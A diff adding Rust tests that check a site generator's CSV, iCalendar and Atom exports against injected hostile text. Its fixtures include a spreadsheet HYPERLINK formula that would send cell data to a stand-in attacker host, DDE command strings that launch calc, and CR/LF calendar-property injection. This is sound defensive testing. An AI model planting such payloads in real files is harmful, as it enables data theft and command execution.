@@ -1,6 +1,8 @@
 //! Open data of the example: the JSON validates against its published JSON Schema, the
 //! CSV files parse with one row per fiche and per sous-action, the iCalendar files parse
-//! with one event per period, and a change in the sources changes the exports.
+//! with one event per period, and a change in the sources changes the exports. Hostile
+//! text stays inert: a formula is not run by a spreadsheet opening a CSV file, and control
+//! characters neither add a line to a calendar nor make the feed unreadable.
 
 use std::sync::OnceLock;
 
@@ -313,5 +315,270 @@ fn the_feed_needs_an_address_and_a_date() {
     assert_eq!(
         feed.entries()[0].links()[0].href(),
         "https://exemple.fr/essai/action/1-2-1.html"
+    );
+}
+
+/// Replaces `from`, which must be there, in the file `path` of the site `root`.
+fn edit(root: &std::path::Path, path: &str, from: &str, to: &str) {
+    let file = root.join(path);
+    let text = std::fs::read_to_string(&file).unwrap();
+    assert!(text.contains(from), "{path} has no {from:?}");
+    std::fs::write(&file, text.replacen(from, to, 1)).unwrap();
+}
+
+/// The example with hostile text: cells a spreadsheet would run as formulas, and control
+/// characters written as YAML escapes (`"\r"`, `"\f"`), which the YAML parser lets through.
+fn hostile() -> &'static Built {
+    static SITE: OnceLock<Built> = OnceLock::new();
+    SITE.get_or_init(|| {
+        let copy = copy_site(&repo());
+        let root = copy.path();
+        let fa01 = "content/fiches/fa-01.md";
+        edit(
+            root,
+            fa01,
+            "titre: Favoriser l'interconnaissance des acteur·rices et la connaissance des ressources",
+            r#"titre: '=HYPERLINK("https://evil.example/?"&B2;"Voir la fiche")'"#,
+        );
+        edit(
+            root,
+            fa01,
+            "pilotes:\n  - ase-territoires",
+            "pilotes:\n  - libre: \"\\t=1+2\"\n  - ase-territoires",
+        );
+        edit(
+            root,
+            fa01,
+            "  libelle: Démarrage en 2019\n",
+            concat!(
+                "  libelle: Démarrage en 2019\n",
+                "  jalons:\n",
+                "    - date: 2021-06-15\n",
+                "      libelle: \"Comité de pilotage\\rX-INJECTE:oui\"\n",
+                "    - date: 2022-06-15\n",
+                "      libelle: \"Bilan\\r\\nX-INJECTE:oui\\f\\tà mi-parcours\"\n",
+            ),
+        );
+        edit(
+            root,
+            fa01,
+            "Premières rencontres territoriales entre professionnels de la prévention et de la protection.",
+            "+33 1 43 93 93 93 : rappeler le service",
+        );
+        edit(
+            root,
+            fa01,
+            "Bilan présenté au comité technique de l'ODPE.",
+            "- Bilan présenté au comité technique de l'ODPE.",
+        );
+        edit(
+            root,
+            "content/fiches/fa-12.md",
+            "titre: \"(Ré)affirmer l'autonomie",
+            "titre: \"(Ré)affirmer\\fl'autonomie",
+        );
+        edit(
+            root,
+            "schema-data/acteurs.yaml",
+            "nom: Conseil départemental de la Seine-Saint-Denis\n",
+            "nom: \"@SUM(1+1)*cmd|' /C calc'!A0\"\n",
+        );
+        edit(
+            root,
+            "schema-data/indicateurs.yaml",
+            "note: file active depuis le 1er mars 2023",
+            "note: \"-2+3+cmd|' /C calc'!A0\"",
+        );
+        edit(
+            root,
+            "content/pratiques/1a.md",
+            "titre: Conférences familiales",
+            "titre: =1+1 Conférences familiales",
+        );
+        build(root)
+    })
+}
+
+fn hostile_read(path: &str) -> String {
+    std::fs::read_to_string(hostile().out().join(path)).unwrap()
+}
+
+/// The row of a CSV file whose first columns are `key`.
+fn row_of(path: &str, key: &[&str]) -> csv::StringRecord {
+    rows(&hostile_read(path))
+        .into_iter()
+        .find(|r| r.iter().zip(key).all(|(cell, k)| cell == *k))
+        .unwrap_or_else(|| panic!("{path}: no row {key:?}"))
+}
+
+/// Whether a spreadsheet opening the cell would run it as a formula.
+fn runs_as_formula(cell: &str) -> bool {
+    cell.starts_with(['=', '+', '-', '@', '\t', '\r'])
+}
+
+#[test]
+fn csv_text_a_spreadsheet_would_run_starts_with_a_quote() {
+    let fiche = row_of("donnees/fiches.csv", &["1"]);
+    assert_eq!(
+        &fiche[1],
+        r#"'=HYPERLINK("https://evil.example/?"&B2;"Voir la fiche")"#
+    );
+    assert!(
+        fiche[3].starts_with("'\t=1+2 ; ase-territoires"),
+        "{:?}",
+        &fiche[3]
+    );
+    let acteur = row_of("donnees/acteurs.csv", &["cd93"]);
+    assert_eq!(&acteur[2], "'@SUM(1+1)*cmd|' /C calc'!A0");
+    let suivi = row_of("donnees/suivi.csv", &["1", "", "2019"]);
+    assert_eq!(&suivi[5], "'+33 1 43 93 93 93 : rappeler le service");
+    let sous_action = row_of("donnees/sous-actions.csv", &["1", "2"]);
+    assert_eq!(
+        &sous_action[9],
+        "'- Bilan présenté au comité technique de l'ODPE."
+    );
+    let valeur = row_of(
+        "donnees/valeurs-indicateurs.csv",
+        &["journees-cer", "10 ; 16", "2023"],
+    );
+    assert_eq!(&valeur[10], "'-2+3+cmd|' /C calc'!A0");
+    let pratique = row_of("donnees/pratiques.csv", &["1a"]);
+    assert!(
+        pratique[1].starts_with("'=1+1 Conférences"),
+        "{:?}",
+        &pratique[1]
+    );
+    // No text cell of any file would run: the column's type in the data package decides.
+    let package: serde_json::Value =
+        serde_json::from_str(&hostile_read("donnees/datapackage.json")).unwrap();
+    for resource in package["resources"].as_array().unwrap() {
+        let path = format!("donnees/{}", resource["path"].as_str().unwrap());
+        let fields = resource["schema"]["fields"].as_array().unwrap();
+        for row in rows(&hostile_read(&path)) {
+            for (cell, field) in row.iter().zip(fields) {
+                if field["type"] == "string" {
+                    assert!(
+                        !runs_as_formula(cell),
+                        "{path}, {}: {cell:?}",
+                        field["name"]
+                    );
+                }
+            }
+        }
+    }
+}
+
+#[test]
+fn csv_numbers_and_the_json_keep_their_exact_values() {
+    // A negative number is a number, not a formula: it stays as it is.
+    let valeur = row_of(
+        "donnees/valeurs-indicateurs.csv",
+        &["journees-cer", "10 ; 16", "2022"],
+    );
+    assert_eq!(
+        (&valeur[3], &valeur[6], &valeur[7]),
+        ("2019", "3306", "-1287")
+    );
+    assert!(
+        rows(&hostile_read("donnees/valeurs-indicateurs.csv"))
+            .iter()
+            .all(|r| !r[7].starts_with('\''))
+    );
+    // The JSON is not opened by spreadsheets: it keeps the text exactly as written.
+    let data: serde_json::Value =
+        serde_json::from_str(&hostile_read("donnees/schema.json")).unwrap();
+    assert_eq!(
+        data["fiches"][0]["titre"],
+        r#"=HYPERLINK("https://evil.example/?"&B2;"Voir la fiche")"#
+    );
+    assert_eq!(data["fiches"][0]["pilotes"][0]["texte"], "\t=1+2");
+    assert_eq!(data["acteurs"][0]["nom"], "@SUM(1+1)*cmd|' /C calc'!A0");
+    assert_eq!(
+        data["indicateurs"][0]["valeurs"][1]["note"],
+        "-2+3+cmd|' /C calc'!A0"
+    );
+}
+
+/// The lines of an iCalendar text: every one ends with CR LF, and no CR or LF is left
+/// inside one (a bare CR lets a parser split the line and read a property of its own).
+fn ical_lines(text: &str) -> Vec<&str> {
+    let lines = text
+        .strip_suffix("\r\n")
+        .expect("the last line ends with CR LF");
+    let lines: Vec<&str> = lines.split("\r\n").collect();
+    for line in &lines {
+        assert!(
+            !line.contains(['\r', '\n']),
+            "a bare line break in {line:?}"
+        );
+        assert!(
+            !line.chars().any(|c| c.is_control() && c != '\t'),
+            "a control character in {line:?}"
+        );
+    }
+    lines
+}
+
+#[test]
+fn calendar_text_keeps_line_breaks_escaped_and_drops_control_characters() {
+    use icalendar::Component as _;
+    let text = hostile_read("calendrier.ics");
+    let lines = ical_lines(&text);
+    assert!(!lines.iter().any(|l| l.starts_with("X-INJECTE")));
+    let calendar: icalendar::Calendar = text.parse().unwrap();
+    assert!(calendar.components.iter().all(|c| {
+        c.as_event()
+            .is_none_or(|e| e.property_value("X-INJECTE").is_none())
+    }));
+    // CR and CR LF are line breaks of the text, escaped; the form feed is gone, the tab stays.
+    let unfolded = text.replace("\r\n ", "");
+    let summaries: Vec<&str> = unfolded
+        .split("\r\n")
+        .filter_map(|l| l.strip_prefix("SUMMARY:Jalon – Fiche-action 1 : "))
+        .collect();
+    assert_eq!(
+        summaries,
+        [
+            "Comité de pilotage\\nX-INJECTE:oui",
+            "Bilan\\nX-INJECTE:oui\tà mi-parcours"
+        ]
+    );
+    // The fiche's own calendar, in the link of its page, is named after its title.
+    let page = hostile().page("fiche/12.html");
+    let link = page.attrs(".agenda a", "href").remove(0);
+    let encoded = link
+        .strip_prefix("data:text/calendar;charset=utf-8,")
+        .unwrap();
+    let text = percent_encoding::percent_decode_str(encoded)
+        .decode_utf8()
+        .unwrap();
+    ical_lines(&text);
+    assert!(
+        text.replace("\r\n ", "")
+            .contains("(Ré)affirmerl'autonomie")
+    );
+}
+
+#[test]
+fn the_feed_stays_well_formed_with_control_characters() {
+    let text = hostile_read("atom.xml");
+    // Characters XML 1.0 forbids make the whole feed unreadable.
+    assert!(
+        !text
+            .chars()
+            .any(|c| c < ' ' && !matches!(c, '\t' | '\n' | '\r')
+                || matches!(c, '\u{fffe}' | '\u{ffff}')),
+        "a character XML does not allow"
+    );
+    // The parser of atom_syndication does not check characters: the test above does.
+    let feed: atom_syndication::Feed = text.parse().unwrap();
+    let titles: Vec<&str> = feed.entries().iter().map(|e| e.title().as_str()).collect();
+    let fiche = "Fiche-action 12 : (Ré)affirmerl'autonomie comme une finalité de l'accompagnement";
+    assert!(titles.contains(&fiche), "{titles:?}");
+    // The sitemap writes addresses only, from jalon.yaml and the pages' ids, escaped alike.
+    assert!(
+        !hostile_read("sitemap.xml")
+            .chars()
+            .any(|c| c.is_control() && c != '\n')
     );
 }
